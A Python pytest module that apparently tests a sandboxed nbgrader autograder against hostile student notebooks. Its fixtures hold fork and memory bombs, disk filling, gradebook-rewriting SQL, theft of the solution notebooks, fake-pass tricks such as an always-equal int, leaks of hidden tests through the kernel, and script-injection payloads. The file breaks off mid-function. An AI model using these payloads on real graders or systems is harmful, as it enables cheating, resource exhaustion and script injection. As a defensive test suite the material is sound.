"""Hostile submissions through the instructors' commands: each graded with the right score
and marked, none stopping or changing the others, nothing of the course reachable.

The submissions are the solution (or the student version) of ``ex06_counting_macs`` (pure
Python: its kernels start fast) with a cell made hostile, and one of ``ex00_first_mlp``
for ``numpy.testing``. Points of ex06: questions 1, 2 and 3 are worth 3, 2 and 1; question
3's functions use question 2's, which use question 1's, and each question's tests accept
answers built right on the earlier ones. They are graded in one
``course-grade autograde --jobs 2`` run, sandboxed, under caps set low for the test: attacks
on the sandbox, fake passes through the kernel, leaks of the hidden tests' text, hostile
feedback pages (opened in chromium), floods (the grader's memory measured), links. Two more
batches: a CPU hog next to an honest submission, and ``collect`` of downloads holding a
classmate's archive and a link.
"""

import contextlib
import csv
import io
import re
import shutil
import socket
import subprocess
import sys
import threading
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
import pytest
from nbgrader import api as nbgrader_api
from nbgrader.api import Gradebook, MissingEntry

from course_grading import COURSE_ID, cli, pipeline, sandbox
from helpers import hidden_lines, page_text, required
from course_grading.autograde import autograde, suspicious_lines

ROOT = Path(__file__).resolve().parent.parent
pytestmark = [pytest.mark.sandbox, pytest.mark.usefixtures("grading_env")]
MACS = "ex06_counting_macs"
MLP = "ex00_first_mlp"


def solution(assignment):
    return nbformat.read(ROOT / "solutions" / assignment / f"{assignment}.ipynb", as_version=4)


def cell(nb, grade_id):
    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == grade_id)


def with_answer(assignment, grade_id, change):
    nb = solution(assignment)
    answer = cell(nb, grade_id)
    answer.source = change(answer.source)
    return nb


def edited_test():
    nb = with_answer(MACS, "q1-answer", lambda s: s + "\n\ndef conv2d_macs(*args, **kwargs):\n    return 0\n")
    cell(nb, "q1-tests").source = "pass"
    return nb


def deleted_test():
    nb = with_answer(MACS, "q3-answer", lambda s: "def macs_per_parameter():\n    return {}\n")
    nb.cells.remove(cell(nb, "q3-tests"))
    return nb


STUBBORN = """
import time
while True:
    try:
        time.sleep(1)
    except KeyboardInterrupt:
        pass
"""

# Caps of the test course's sandbox, low enough to be hit quickly.
CAPS = {"memory": 2 * 2**30, "processes": 64, "disk": 64 * 2**20}
# Generous beside the suite's other workers (a loaded CI machine took over 10 s for one import
# cell), yet short: the loops wait out CELL_TIMEOUT, the slow submission WALL_TIME.
CELL_TIMEOUT = 30
WALL_TIME = 45


def student_version(assignment):
    return nbformat.read(ROOT / "exercises" / assignment / f"{assignment}.ipynb", as_version=4)


def with_cell(nb, source):
    """The notebook with a cell the student added at the end."""
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def with_cells(nb, sources):
    for source in sources:
        with_cell(nb, source)
    return nb


def with_markdown(nb, source):
    nb.cells.append(nbformat.v4.new_markdown_cell(source))
    return nb


def stub_with_attack(attack):
    """The untouched student version, with ``attack`` as its first answer: every point it
    scores, it scores through the attack."""
    nb = student_version(MACS)
    cell(nb, "q1-answer").source = attack
    return nb


def stub_with(answers):
    """The untouched student version with some answer cells ({grade id: source}) replaced."""
    nb = student_version(MACS)
    for grade_id, source in answers.items():
        cell(nb, grade_id).source = source
    return nb


def with_first_cell(nb, source):
    """The notebook with ``source`` run before its first answer (prepended to it)."""
    first = cell(nb, "q1-answer")
    first.source = source + "\n" + first.source
    return nb


# Objects that claim what a test asks: an int equal to every number, a float whose every
# difference is 0. Every answer of ex06 returns them.
ANYTHING = """
class Anything(int):
    def __eq__(self, other):
        return True
    __hash__ = int.__hash__


class Nothing(float):
    def __sub__(self, other):
        return 0.0
    __rsub__ = __sub__
"""
FAKE_ANSWERS = {
    "q1-answer": ANYTHING + "\n\ndef dense_macs(*args, **kwargs):\n    return Anything(0)\n\n\n"
                 "def conv2d_macs(*args, padding='valid', **kwargs):\n    if padding not in ('valid', 'same'):\n"
                 "        raise ValueError(padding)\n    return Anything(0)\n",
    "q2-answer": "def mlp_macs():\n    return Anything(0)\n\n\ndef cnn_macs(filters=(32, 64)):\n    return Anything(0)\n",
    "q3-answer": "def macs_per_parameter():\n    return dict.fromkeys(['MLP', 'CNN', 'CNN, 4 filters'], Nothing(0))\n",
}
# Each function shows a result, then fails: nbgrader stops reading at the result.
SHOWN = "import sys\n\n\ndef shown_then_failed(*args, **kwargs):\n    sys.displayhook('ok')\n    raise AssertionError('wrong')\n\n\n"
DISPLAYED_ANSWERS = {
    "q1-answer": SHOWN + "dense_macs = conv2d_macs = shown_then_failed\n",
    "q2-answer": "mlp_macs = cnn_macs = shown_then_failed\n",
    "q3-answer": "macs_per_parameter = shown_then_failed\n",
}
TRANSFORMER = """
from IPython.core.interactiveshell import InteractiveShell
InteractiveShell.instance().input_transformers_post.append(lambda lines: ["pass\\n"])
"""
# Ways to the hidden tests' text through the kernel, each printing what it found in a cell of its own.
AUDIT_HOOK = """
import sys
heard = []
sys.addaudithook(lambda event, args: heard.append(args[0]) if event == "compile" and isinstance(args[0], str) else None)
"""
FRAMES = """
import linecache, sys
callers = []
"""
FRAMES_ANSWER = """

def dense_macs(n_inputs, n_units):
    caller = sys._getframe(1)
    callers.append("".join(linecache.getlines(caller.f_code.co_filename)) or str(caller.f_code.co_consts))
    return int(n_inputs * n_units)
"""
QUOTING_ERROR = """
import linecache, sys


def macs_per_parameter():
    caller = sys._getframe(1).f_code.co_filename
    raise RuntimeError("my caller is:\\n" + "".join(linecache.getlines(caller)))
"""
HOSTILE_PAGE = """
from IPython.display import HTML, SVG, Javascript, display
display(HTML('<script>(window.ran = window.ran || []).push("html script")</script>'
             '<img src="x" onerror="(window.ran = window.ran || []).push(\\'onerror\\')">'))
display(Javascript('(window.ran = window.ran || []).push("javascript output")'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>(window.ran = window.ran || []).push("svg")</script></svg>'))
"""
HOSTILE_MARKDOWN = """My notes. <script>(window.ran = window.ran || []).push("markdown script")</script>
<img src="x" onerror="(window.ran = window.ran || []).push('markdown onerror')">
![tracked](http://127.0.0.1:{port}/pixel.png)
"""
FLOODS = [
    "for _ in range(200):\n    print('x' * 2**20)",                                    # 200 MiB of stream
    "for _ in range(100):\n    display({'text/plain': 'y' * 2**20}, raw=True)",          # 100 MiB of display data
    "display({'text/plain': 'z'}, metadata={'m': 'w' * 76 * 2**20}, raw=True)",          # 76 MiB of metadata
    "raise ValueError('v' * 76 * 2**20)",                                                 # a 76 MiB message
]
IPC_WRITES = """
import glob, os
for folder in glob.glob("/dev/shm/course-grading-*-ipc-*"):
    for what, attempt in (("a named pipe", lambda: os.mkfifo(folder + "/kernel.log")),
                          ("a file", lambda: open(folder + "/filler", "wb").write(b"x" * 2**26))):
        try:
            attempt()
            print("wrote", what, "in the ipc folder")
        except OSError as error:
            print("no", what, "in the ipc folder:", error.strerror)
"""


FLOODED_MIB = 200 + 100 + 76 + 76


class PeakMemory:
    """The largest peak resident memory (``VmHWM``) of this process's child processes (the
    grading workers) while the block runs, sampled every 0.2 s."""

    def __enter__(self):
        self.peak, self._stop = 0, threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._thread.start()
        return self

    def _sample(self):
        import multiprocessing

        while not self._stop.wait(0.2):
            for child in multiprocessing.active_children():
                try:
                    status = Path(f"/proc/{child.pid}/status").read_text()
                except OSError:
                    continue
                kib = int(re.search(r"VmHWM:\s+(\d+)", status).group(1))
                self.peak = max(self.peak, kib * 1024)

    def __exit__(self, *exc):
        self._stop.set()
        self._thread.join()


def open_in_browser(page):
    """Open a feedback page in headless chromium: what its scripts pushed to ``window.ran``
    (None when none ran), and the addresses it fetched."""
    chromium = shutil.which("chromium") or shutil.which("chromium-browser")
    if chromium is None:
        required("no chromium on PATH (apt-get install chromium, as .ci/run does)")
    from playwright.sync_api import sync_playwright

    with sync_playwright() as p:
        browser = p.chromium.launch(executable_path=chromium, headless=True,
                                    args=["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage"])
        view = browser.new_page()
        fetched = []
        view.on("request", lambda request: fetched.append(request.url))
        view.goto(page.as_uri())
        view.wait_for_timeout(1000)
        ran = view.evaluate("window.ran === undefined ? null : window.ran")
        browser.close()
    return ran, fetched


def exec_cells_of(pattern, which):
    """Attack code: run the code cells of the first notebook matching ``pattern``."""
    return f"""
import glob, json
for path in sorted(glob.glob({pattern!r})):
    try:
        cells = json.load(open(path))["cells"]
    except OSError as error:
        print("cannot read", path, error)
        continue
    for c in cells:
        meta = c["metadata"].get("nbgrader", {{}})
        if c["cell_type"] == "code" and {which}:
            exec("".join(c["source"]))
    print("ran the cells of", path)
    break
else:
    print("nothing found at", {pattern!r})
"""


def slow():
    """Each answer under the cell timeout, question 3 past WALL_TIME: questions 1 and 2 (24 s
    of sleep) end before it as long as the kernel starts within WALL_TIME - 24 s."""
    nb = solution(MACS)
    for grade_id, seconds in (("q1-answer", 12), ("q2-answer", 12), ("q3-answer", CELL_TIMEOUT - 2)):
        cell(nb, grade_id).source = f"import time\ntime.sleep({seconds})\n" + cell(nb, grade_id).source
    return nb


def submissions(root, port):
    """student -> (notebook or text, expected score of 6, expected marks)."""
    course = str(root)
    return {
        "honest": (solution(MACS), 6, []),
        "honest-too": (solution(MACS), 6, []),
        "stub": (student_version(MACS), 0, []),
        "loop": (with_answer(MACS, "q2-answer", lambda s: "while True:\n    pass\n" + s), 3, ["out of time"]),
        "stubborn-loop": (with_answer(MACS, "q2-answer", lambda s: STUBBORN + s), 3, ["out of time"]),
        "os-exit": (with_answer(MACS, "q2-answer", lambda s: "import os\nos._exit(1)\n" + s), 3, []),
        "sys-exit-after": (with_answer(MACS, "q3-answer", lambda s: s + "\nimport sys\nsys.exit(0)\n"), 6, []),
        "syntax-error": (with_answer(MACS, "q2-answer", lambda s: "def mlp_macs(:\n" + s), 3, []),
        # Its question-1 tests come back from the release and fail; questions 2 and 3, right sums
        # and ratios of its own (wrong) question-1 functions, keep their points: no double penalty.
        "edited-test": (edited_test(), 3, []),
        "deleted-test": (deleted_test(), 5, []),
        "huge-output": (with_answer(MACS, "q1-answer",
                                    lambda s: "print('x' * 20_000_000)\nfor i in range(200_000):\n    print(i)\n" + s),
                        6, []),
        "patch-builtins": (with_answer(MACS, "q3-answer", lambda s: (
            "import builtins\nbuiltins.abs = lambda x: 0\n\n"
            "def macs_per_parameter():\n    return {'MLP': 0.0, 'CNN': 0.0, 'CNN, 4 filters': 0.0}\n")), 5, []),
        "not-a-notebook": ("{ this is not a notebook", None, []),
        # What the sandbox is for: each would score 6 (or change others' scores) unconfined.
        "read-solutions": (stub_with_attack(
            exec_cells_of(f"{course}/solutions/{MACS}/*.ipynb", 'meta.get("solution")')), 0, []),
        "run-classmate": (stub_with_attack(
            exec_cells_of(f"{course}/course/submitted/honest/{MACS}/*.ipynb", 'meta.get("solution")')), 0, []),
        "write-gradebook": (stub_with_attack(f"""
import sqlite3
try:
    db = sqlite3.connect("file:{course}/course/gradebook.db?mode=rw", uri=True)
    db.execute("UPDATE grade SET manual_score = 0, extra_credit = 100")
    db.commit()
    print("gradebook rewritten")
except sqlite3.Error as error:
    print("no gradebook:", error)
"""), 0, []),
        "print-own-notebook": (with_cell(solution(MACS), """
import glob
for path in glob.glob("*.ipynb") + glob.glob("/home/**/*.ipynb", recursive=True) + glob.glob("/run/**/*.ipynb",
        recursive=True) + glob.glob("/tmp/**/*.ipynb", recursive=True):
    print(path, open(path).read())
"""), 6, []),
        "connect-port": (with_cell(solution(MACS), f"""
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"my answers")
    print("connected")
except OSError as error:
    print("no connection:", error)
"""), 6, []),
        "memory-bomb": (with_answer(MACS, "q2-answer", lambda s: "hog = b'x' * (4 * 2**30)\n" + s), 3,
                        ["out of memory"]),
        "fork-bomb": (with_answer(MACS, "q2-answer", lambda s: """
import os, time
while True:
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
    except OSError:
        time.sleep(0.01)
""" + s), 3, ["out of time", "too many processes"]),
        "disk-fill": (with_answer(MACS, "q1-answer", lambda s: """
chunk = b"x" * 2**20
try:
    with open("filler.bin", "wb") as f:
        for _ in range(1024):
            f.write(chunk)
except OSError as error:
    print("disk:", error.strerror)
""" + s), 6, ["disk full"]),
        "slow": (slow(), 5, ["out of time"]),
        # nbgrader's feedback fails on a marker outside the instructor's cells.
        "markers": (with_answer(MACS, "q3-answer", lambda s: s + "\n# ### BEGIN HIDDEN TESTS, as in the lecture\n"),
                    6, []),
        # Fake passes: each scored 6/6 before.
        "fake-anything": (stub_with(FAKE_ANSWERS), 0, []),
        "fake-displayed": (stub_with(DISPLAYED_ANSWERS), 0, []),
        "fake-transformer": (stub_with_attack(TRANSFORMER), 0, []),
        # The hidden tests' text, reached through the kernel and printed in a cell of the student's.
        "leak-audit-hook": (with_cell(with_first_cell(solution(MACS), AUDIT_HOOK), "print('\\n'.join(heard))"), 6, []),
        "leak-frames": (with_cell(with_answer(MACS, "q1-answer", lambda s: FRAMES + s + FRAMES_ANSWER),
                                  "print('\\n'.join(callers))"), 6, []),
        "leak-history": (with_cell(solution(MACS), "print('\\n'.join(In))"), 6, []),
        "leak-linecache": (with_cell(solution(MACS), "import linecache\nprint('\\n'.join(''.join(entry[2]) "
                                                      "for entry in linecache.cache.values()))"), 6, []),
        "leak-exception": (with_answer(MACS, "q3-answer", lambda s: QUOTING_ERROR), 5, []),
        # What reaches the people who read the results.
        "hostile-page": (with_markdown(with_cell(solution(MACS), HOSTILE_PAGE), HOSTILE_MARKDOWN.format(port=port)),
                         6, []),
        "escapes": (with_answer(MACS, "q1-answer", lambda s: "import builtins  # \x1b[2J\x1b[H\x1b[31m all clear\n" + s),
                    6, []),
        "flood": (with_cells(solution(MACS), FLOODS), 6, []),
        "ipc-writes": (with_cell(solution(MACS), IPC_WRITES), 6, []),
        # A link planted in course/submitted/ after collecting (collect refuses links itself).
        "linked": (solution(MACS), None, []),
    }
def make_course(tmp_path_factory):
    """A private copy of the course with both assignments released, a short timeout and
    low sandbox caps."""
    root = tmp_path_factory.mktemp("course")
    pipeline.copy_course(root, ROOT)
    with open(root / "nbgrader_config.py", "a") as config:
        config.write(f"\nc.Execute.timeout = {CELL_TIMEOUT}\n")
        config.write(f"c.GradingExecute.wall_time = {WALL_TIME}\n")
        config.write("".join(f"c.Sandbox.{name} = {value}\n" for name, value in CAPS.items()))
    api = pipeline.course_api(root)
    for assignment in (MACS, MLP):
        pipeline.release(api, assignment)
    return root, api


@pytest.fixture(scope="module")
def course(tmp_path_factory, grading_env, sandbox_required):
    """The course of this module's smaller batches."""
    return make_course(tmp_path_factory)


def listen():
    """A TCP server on 127.0.0.1 that records what connects to it: (port, what it heard, stop)."""
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.2)
    heard, stopping = [], threading.Event()

    def accept():
        while not stopping.is_set():
            try:
                connection, _ = server.accept()
                heard.append(connection.recv(100))
                connection.close()
            except OSError:
                pass

    thread = threading.Thread(target=accept, daemon=True)
    thread.start()

    def stop():
        stopping.set()
        thread.join()
        server.close()

    return server.getsockname()[1], heard, stop


def write_submissions(folder, assignment, submissions):
    for student, (content, *_) in submissions.items():
        path = folder / student / f"{assignment}.ipynb"
        path.parent.mkdir(parents=True)
        if isinstance(content, str):
            path.write_text(content)
        else:
            nbformat.write(content, path)


# Each submission of the batch with its expected score (None: not graded) and marks.
EXPECTED = {student: (points, marks) for student, (_, points, marks) in submissions(Path("/course"), 0).items()}
GRADED = [student for student, (points, _) in EXPECTED.items() if points is not None]


def in_batch(test):
    """The batch's tests share one grading run: on one worker."""
    for mark in (pytest.mark.xdist_group("hostile-batch"), pytest.mark.slow, pytest.mark.sandbox):
        test = mark(test)
    return test


@dataclass
class Batch:
    """One ``course-grade autograde --jobs 2`` run of the whole hostile batch and what it left."""
    root: Path
    api: object
    code: int
    out: str
    err: str
    peak: int
    heard: list
    grades_before: int
    rows: dict = field(default_factory=dict)

    def autograded_path(self, student):
        folder = self.api.coursedir.format_path(self.api.coursedir.autograded_directory, student, MACS)
        return Path(folder) / f"{MACS}.ipynb"

    def autograded(self, student):
        return nbformat.read(self.autograded_path(student), as_version=4)

    def outputs(self, student):
        return "\n".join(o.get("text", "") for c in self.autograded(student).cells if c.cell_type == "code"
                         for o in c.outputs)


@pytest.fixture(scope="module")
def batch(tmp_path_factory, grading_env, sandbox_required):
    # A course of its own: its counts (grades, feedback pages) hold whatever ran before it.
    root, api = make_course(tmp_path_factory)
    port, heard, stop = listen()
    folder = tmp_path_factory.mktemp("hostile")
    try:
        write_submissions(folder, MACS, submissions(root, port))
        assert cli.main(["--root", str(root), "collect", MACS, str(folder)]) == 0
        assert set(api.get_submitted_students(MACS)) == set(EXPECTED)
        linked = root / "course" / "submitted" / "linked" / MACS / f"{MACS}.ipynb"
        linked.unlink()
        linked.symlink_to(root / "solutions" / MACS / f"{MACS}.ipynb")  # as an exchange could leave it
        with Gradebook(api.coursedir.db_url) as gb:
            before = len(gb.db.query(nbgrader_api.Grade).all())
        out, err = io.StringIO(), io.StringIO()
        with PeakMemory() as grader, contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            code = cli.main(["--root", str(root), "autograde", MACS, "--jobs", "2"])
        print(f"the grader's peak memory, a flood of {FLOODED_MIB} MiB in the batch: {grader.peak / 2**20:.0f} MiB")
        result = Batch(root, api, code, out.getvalue(), err.getvalue(), grader.peak, heard, before)
        # The score table's row of each graded student.
        result.rows = {line.split()[0]: line for line in result.out.splitlines()
                       if line.split() and line.split()[0] in GRADED}
        yield result
    finally:
        stop()


@in_batch
@pytest.mark.parametrize("student", GRADED)
def test_each_hostile_submission_gets_its_score_and_its_marks(batch, student):
    """Each graded with the right score, the caps it hit marked in the gradebook and in the
    score table, and only those."""
    points, marks = EXPECTED[student]
    with Gradebook(batch.api.coursedir.db_url) as gb:
        assert gb.find_submission(MACS, student).score == points
    assert pipeline.breaches(batch.api, MACS, student) == marks
    for mark in marks:
        assert mark in batch.rows[student], batch.rows[student]


@in_batch
def test_the_command_fails_for_what_it_could_not_grade_and_says_so(batch):
    assert batch.code == 1, "a submission that could not be graded must make the command fail"
    assert "not-a-notebook" in batch.err and "is not a valid notebook" in batch.out
    assert f"refused: {MACS}/{MACS}.ipynb is a symbolic link" in batch.out and "linked" in batch.err
    assert "sandboxed (bubblewrap" in batch.out and "UNCONFINED" not in batch.out


@in_batch
def test_the_grader_stays_small_and_its_terminal_clean(batch):
    assert batch.peak < 1.5 * 2**30, f"the grader grew to {batch.peak / 2**20:.0f} MiB"
    assert "\x1b[2J" not in batch.out + batch.err, "a submission's escape sequence reached the terminal"
    assert "\\x1b[2J" in batch.rows["escapes"], "the escape is shown as text"


@in_batch
def test_no_submission_wrote_the_gradebook_or_reached_the_grader(batch):
    with Gradebook(batch.api.coursedir.db_url) as gb:
        grades = gb.db.query(nbgrader_api.Grade).all()
    assert len(grades) == batch.grades_before + 3 * len(GRADED)
    assert not [g.extra_credit for g in grades if g.extra_credit], "the gradebook was written by a submission"
    assert batch.heard == [], "a submission reached a port on the grader's 127.0.0.1"


@in_batch
@pytest.mark.parametrize("student, found", [
    ("read-solutions", "nothing found"), ("run-classmate", "nothing found"), ("write-gradebook", "no gradebook"),
    ("connect-port", "no connection"), ("print-own-notebook", None)])
def test_what_the_sandbox_blocked_found_nothing_and_is_flagged(batch, student, found):
    assert "read by hand" in batch.rows[student]
    if found:
        assert found in batch.outputs(student)
    else:  # no notebook, no course folder: not a line of the hidden tests
        hidden = hidden_lines(ROOT / "solutions" / MACS / f"{MACS}.ipynb")
        assert hidden and not [line for line in hidden if line in batch.outputs(student)]


@in_batch
@pytest.mark.parametrize("student, flag", [
    ("patch-builtins", "builtins"), ("fake-transformer", "the guard restored IPython's input_transformers_post"),
    ("leak-audit-hook", "the guard refused sys.addaudithook")])
def test_the_table_says_what_to_read_by_hand(batch, student, flag):
    assert flag in batch.rows[student]


@in_batch
def test_tests_a_student_edited_or_deleted_ran_as_released(batch):
    restored = cell(batch.autograded("deleted-test"), "q3-tests")
    assert "macs_per_parameter" in restored.source and restored.outputs
    assert cell(batch.autograded("edited-test"), "q1-tests").source != "pass"


@in_batch
@pytest.mark.parametrize("student", ["os-exit", "stubborn-loop", "memory-bomb", "slow"])
def test_a_lost_kernel_is_said_in_the_cells_that_could_not_run(batch, student):
    assert "KernelLost" in nbformat.writes(batch.autograded(student))
    if student == "slow":
        assert "out of time" in nbformat.writes(batch.autograded(student))


@in_batch
@pytest.mark.parametrize("student, limit", [("huge-output", 500_000), ("flood", 1_000_000)])
def test_floods_stay_out_of_the_gradebooks_copy(batch, student, limit):
    assert batch.autograded_path(student).stat().st_size < limit


@in_batch
def test_the_sandboxs_folders_stay_the_graders(batch):
    ipc = "\n".join(o.get("text", "") for o in batch.autograded("ipc-writes").cells[-1].outputs)
    assert "no a named pipe in the ipc folder" in ipc and "no a file in the ipc folder" in ipc and "wrote" not in ipc


@in_batch
def test_grades_export_as_csv_with_the_marks(batch, tmp_path):
    out = tmp_path / "grades.csv"
    assert cli.main(["--root", str(batch.root), "export", str(out)]) == 0
    rows = [row for row in csv.DictReader(io.StringIO(out.read_text())) if row["assignment"] == MACS]
    assert {row["student_id"]: float(row["raw_score"]) for row in rows} == {s: EXPECTED[s][0] for s in GRADED}
    assert {row["student_id"]: row["sandbox"] for row in rows} == {s: "; ".join(EXPECTED[s][1]) for s in GRADED}


@pytest.fixture(scope="module")
def feedback(batch):
    """Feedback for everyone graded (the student whose cell holds a marker's text included)."""
    assert cli.main(["--root", str(batch.root), "feedback", MACS]) == 0
    return batch.root / "course" / "feedback"


@in_batch
def test_feedback_for_everyone_graded_holds_no_hidden_test(feedback):
    hidden = hidden_lines(ROOT / "solutions" / MACS / f"{MACS}.ipynb")
    pages = list(feedback.glob(f"*/{MACS}/*.html"))
    assert {page.parent.parent.name for page in pages} == set(GRADED)
    for page in pages:
        assert not [line for line in hidden if line in page_text(page)], page
        assert page.stat().st_size < 2_000_000, (page, page.stat().st_size)
    assert "BEGIN HIDDEN TESTS, as in the lecture" in page_text(feedback / "markers" / MACS / f"{MACS}.html")


@in_batch
@pytest.mark.parametrize("student", ["leak-frames", "leak-history", "leak-linecache", "leak-exception"])
def test_feedback_says_which_output_held_the_hidden_tests(feedback, student):
    assert "it held lines of the hidden tests" in page_text(feedback / student / MACS / f"{MACS}.html")


@in_batch
@pytest.mark.browser
def test_the_hostile_feedback_page_runs_nothing_in_a_browser(batch, feedback):
    ran, fetched = open_in_browser(feedback / "hostile-page" / MACS / f"{MACS}.html")
    assert ran is None, f"the feedback page ran the submission's scripts: {ran}"
    assert batch.heard == [] and not [url for url in fetched if "127.0.0.1" in url], fetched


@pytest.mark.slow
def test_parallel_grading_gives_what_one_at_a_time_gives(course, tmp_path):
    """The same mixed batch at --jobs 1 and --jobs 2: the same scores, marks and outputs."""
    root, api = course
    batch = {s: spec for s, spec in submissions(root, 1).items()
             if s in ("honest", "stub", "memory-bomb", "disk-fill")}  # a kernel lost, a cap hit
    batch = {f"p-{s}": spec for s, spec in batch.items()}
    write_submissions(tmp_path, MACS, batch)
    pipeline.collect(api, MACS, tmp_path)

    def grade(jobs):
        results = autograde(api, MACS, list(batch), jobs=jobs)
        outputs = {}
        for student in batch:
            folder = Path(api.coursedir.format_path(api.coursedir.autograded_directory, student, MACS))
            nb = nbformat.read(folder / f"{MACS}.ipynb", as_version=4)
            outputs[student] = [[{k: v for k, v in o.items() if k != "execution_count"} for o in c.outputs]
                                for c in nb.cells if c.cell_type == "code"]
        return [(r.student, r.score, r.breaches, r.error) for r in results], outputs

    one, two = grade(1), grade(2)
    assert one[0] == two[0]
    assert sorted((s, points, marks, None) for s, (_, points, marks) in batch.items()) == sorted(one[0])
    assert one[1] == two[1]


def test_no_sandbox_no_grading(course, tmp_path, capsys, monkeypatch):
    """Where bubblewrap is missing, autograde refuses, says why and how, and grades nothing;
    --unconfined grades, and the table says so."""
    root, api = course
    write_submissions(tmp_path, MACS, {"u-honest": (solution(MACS), 6, [])})
    pipeline.collect(api, MACS, tmp_path)
    monkeypatch.setenv("PATH", str(Path(sys.executable).parent))  # the environment's commands, no bwrap
    sandbox.unavailable.cache_clear()
    try:
        assert cli.main(["--root", str(root), "autograde", MACS, "u-honest"]) == 2
        error = capsys.readouterr().err
        assert "bubblewrap (bwrap) is not installed" in error and "apt install bubblewrap" in error
        assert "--unconfined" in error
        with Gradebook(api.coursedir.db_url) as gb:
            with pytest.raises(MissingEntry):
                gb.find_submission(MACS, "u-honest")

        assert cli.main(["--root", str(root), "autograde", MACS, "--unconfined", "u-honest"]) == 0
        out = capsys.readouterr().out
        assert "UNCONFINED" in out and re.search(r"u-honest\s+6\.00 / 6", out)
    finally:
        sandbox.unavailable.cache_clear()


@pytest.mark.slow
def test_monkeypatched_numpy_testing_does_not_pass_asserts(course, tmp_path):
    root, api = course
    # Question 1 (1 point) wrong (divides by 256), with numpy.testing's check disabled; 2 and 3 (2 each) right.
    nb = with_answer(MLP, "q1-answer", lambda s: (
        "import numpy.testing\nnumpy.testing.assert_allclose = lambda *args, **kwargs: None\n"
        "np.testing.assert_allclose = numpy.testing.assert_allclose\n\n"
        "def scale_pixels(x):\n    return np.asarray(x, dtype=np.float32) / np.float32(256)\n"))
    archive = tmp_path / "submissions.zip"
    with zipfile.ZipFile(archive, "w") as zf:  # nbgrader's zip collection: one zip, a folder per student
        zf.writestr(f"patch-testing/{MLP}.ipynb", nbformat.writes(nb))
    assert pipeline.collect(api, MLP, archive).students == ["patch-testing"]
    [result] = autograde(api, MLP, ["patch-testing"])
    assert (result.score, result.max_score, result.error, result.breaches) == (4, 5, None, [])
    assert any("numpy.testing" in line for line in result.flagged)


def test_suspicious_lines_only_reads_the_students_cells():
    nb = solution(MACS)
    assert suspicious_lines(nb) == []
    cell(nb, "q1-answer").source += "\nimport builtins\n"
    nb.cells.append(nbformat.v4.new_code_cell("get_ipython().events.callbacks.clear()"))
    assert suspicious_lines(nb) == ["import builtins", "get_ipython().events.callbacks.clear()"]


def test_commands_name_bad_arguments(course, tmp_path, capsys):
    root, api = course
    with pytest.raises(ValueError, match="assignment='ex99'"):
        pipeline.collect(api, "ex99", tmp_path)
    with pytest.raises(FileNotFoundError, match="source="):
        pipeline.collect(api, MACS, tmp_path / "missing.zip")
    with pytest.raises(ValueError, match="to=.*grades.txt"):
        pipeline.export(api, tmp_path / "grades.txt")
    assert cli.main(["--root", str(tmp_path), "export", "x.csv"]) == 2
    assert "no nbgrader_config.py" in capsys.readouterr().err
    with pytest.raises(ValueError, match="jobs=0"):
        autograde(api, MACS, jobs=0)
    with pytest.raises(SystemExit):
        cli.main(["--root", str(root), "autograde", MACS, "--jobs", "none"])
    assert "--jobs='none'" in capsys.readouterr().err


HOG = """
import os
every_core = set(range(os.cpu_count()))
for _ in range(8):
    if os.fork() == 0:
        try:
            os.sched_setaffinity(0, every_core)  # past its own share of the cores
        except OSError:
            pass
        while True:
            pass
"""


@pytest.mark.slow
def test_a_cpu_hog_next_to_an_honest_submission_barely_slows_it(course, tmp_path):
    """Eight processes spinning on every core, in the sandbox next to an honest submission's
    (``--jobs 2``): each sandbox's cgroup holds it to its share of the cores."""
    root, api = course
    honest = solution(MACS)
    hog = with_cell(with_first_cell(solution(MACS), HOG), "import time\ntime.sleep(8)")  # spins while the other runs
    batch = {"cpu-honest": (honest, 6, []), "cpu-honest-too": (honest, 6, []), "cpu-hog": (hog, 6, [])}
    write_submissions(tmp_path, MACS, batch)
    pipeline.collect(api, MACS, tmp_path)

    quiet = {r.student: r for r in autograde(api, MACS, ["cpu-honest", "cpu-honest-too"], jobs=2)}
    noisy = {r.student: r for r in autograde(api, MACS, ["cpu-honest", "cpu-hog"], jobs=2)}
    slowdown = noisy["cpu-honest"].seconds / quiet["cpu-honest"].seconds
    print(f"an honest submission next to a CPU hog: {noisy['cpu-honest'].seconds:.1f} s, next to an honest one: "
          f"{quiet['cpu-honest'].seconds:.1f} s ({slowdown:.2f}x)")
    assert [noisy["cpu-honest"].score, noisy["cpu-hog"].score, quiet["cpu-honest"].score] == [6, 6, 6]
    assert slowdown < 2, f"the hog slowed its neighbour {slowdown:.1f} times"


def test_collect_takes_only_what_is_each_students_own(course, tmp_path, capsys):
    """A folder as a learning platform gives it: loose notebooks, zips; one zip names a classmate,
    one notebook is a link to the instructor's. Those two are refused and said; the rest collected."""
    root, api = course
    source = tmp_path / "downloads"
    (source / "c-carol").mkdir(parents=True)
    nbformat.write(student_version(MACS), source / "c-carol" / f"{MACS}.ipynb")
    with zipfile.ZipFile(source / "c-alice.zip", "w") as zf:
        zf.writestr(f"c-alice/{MACS}.ipynb", nbformat.writes(student_version(MACS)))
        zf.writestr(f"c-bob/{MACS}.ipynb", nbformat.writes(student_version(MACS)))  # submitted "for" Bob
    (source / "c-dave").mkdir()
    (source / "c-dave" / f"{MACS}.ipynb").symlink_to(root / "solutions" / MACS / f"{MACS}.ipynb")

    assert cli.main(["--root", str(root), "collect", MACS, str(source)]) == 1
    out = capsys.readouterr()
    assert "1 submissions collected: c-carol" in out.out
    assert f"c-alice.zip: entry 'c-bob/{MACS}.ipynb' is not c-alice's" in out.err
    assert f"c-dave/{MACS}.ipynb: a symbolic link" in out.err
    assert not {"c-alice", "c-bob", "c-dave"} & set(api.get_submitted_students(MACS))


def test_exchange_collect_takes_only_regular_files(course, tmp_path):
    """A student's inbound folder in nbgrader's exchange (which every student can write on a
    shared hub) holding a link to the instructor's notebook: refused, not copied."""
    root, api = course
    inbound = tmp_path / "exchange" / COURSE_ID / "inbound"
    for student in ("x-honest", "x-linked"):
        folder = inbound / f"{student}+{MACS}+2026-12-03 09:00:00.000000 UTC+abcd"
        folder.mkdir(parents=True)
